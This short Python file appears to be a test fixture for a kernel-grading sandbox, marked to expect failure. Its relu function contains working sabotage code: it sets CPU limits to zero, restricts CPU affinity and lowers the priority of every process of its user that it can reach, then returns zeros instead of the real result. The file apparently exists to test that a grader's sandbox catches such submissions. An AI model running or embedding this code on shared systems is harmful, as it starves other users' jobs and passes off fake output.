# expect: status=fail; sandbox_only
# Starves or ends every other process of its user that it can name (the other submissions' workers
# and the factory, in its PID namespace): a CPU limit of zero, the lowest priority for the user, one
# CPU for all; then returns zeros.
import os
import resource

import torch


def relu(x, BLOCK=256):
    for pid in range(1, 4096):
        if pid == os.getpid():
            continue
        for act in (lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
                    lambda: os.sched_setaffinity(pid, {0}),
                    lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)):
            try:
                act()
            except OSError:
                pass
    try:
        os.setpriority(os.PRIO_USER, 0, 19)
    except OSError:
        pass
    return torch.zeros_like(x)
